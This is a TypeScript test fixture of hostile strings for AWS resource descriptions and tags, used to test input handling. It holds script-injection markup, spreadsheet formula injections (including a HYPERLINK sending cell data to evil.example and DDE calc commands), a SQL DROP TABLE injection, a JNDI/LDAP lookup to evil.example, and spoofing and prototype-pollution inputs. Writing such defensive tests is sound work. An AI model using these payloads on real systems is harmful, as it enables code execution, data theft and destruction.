const RIGHT_TO_LEFT = "\u202Egnp.terces\u202C";
const MARKUP = `<img src=x onerror="alert(1)"><script>alert("kms")</script>`;

/** Descriptions as people and attackers write them; the longest has AWS's 8192 characters. */
export const HOSTILE_DESCRIPTIONS: readonly string[] = [
  MARKUP,
  `=HYPERLINK("https://evil.example/?x="&A1,"open")`,
  "+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  "-2+3\tand a tab",
  `invoice-${RIGHT_TO_LEFT}`,
  "Zalgo: Z\u0351\u036B\u0343a\u0313\u035Blgo, emoji 🧥👗, null-like \u2400, newline\nsecond line",
  `${"long ".repeat(1638)}en`,
  "'; DROP TABLE keys; --",
  // biome-ignore lint/suspicious/noTemplateCurlyInString: what an attacker would write.
  "${jndi:ldap://evil.example/a} {{7*7}} %s %n",
];

/** Tags to AWS's limits: keys of 128 and values of 256 characters, empty values, 50 tags. */
export const HOSTILE_TAGS: readonly Record<string, string>[] = [
  { Owner: MARKUP.slice(0, 120), environment: "DEV" },
  { Owner: `=HYPERLINK("https://evil.example")`, Environment: "dev" },
  { OWNER: "team-checkout", ENVIRONMENT: "Dev", DATACLASSIFICATION: "internal" },
  { Owner: "", Environment: "", DataClassification: "" },
  { Owner: RIGHT_TO_LEFT, Environment: "dev\u200B" },
  { ["k".repeat(128)]: "v".repeat(256), Owner: "ü".repeat(256) },
  Object.fromEntries(Array.from({ length: 50 }, (_, index) => [`tag-${index}`, `${index}`])),
  { Owner: " team-search ", Environment: "dev ", DataClassification: "Restricted / Internal" },
  { __proto__x: "1", constructor: "2", toString: "3" },
];
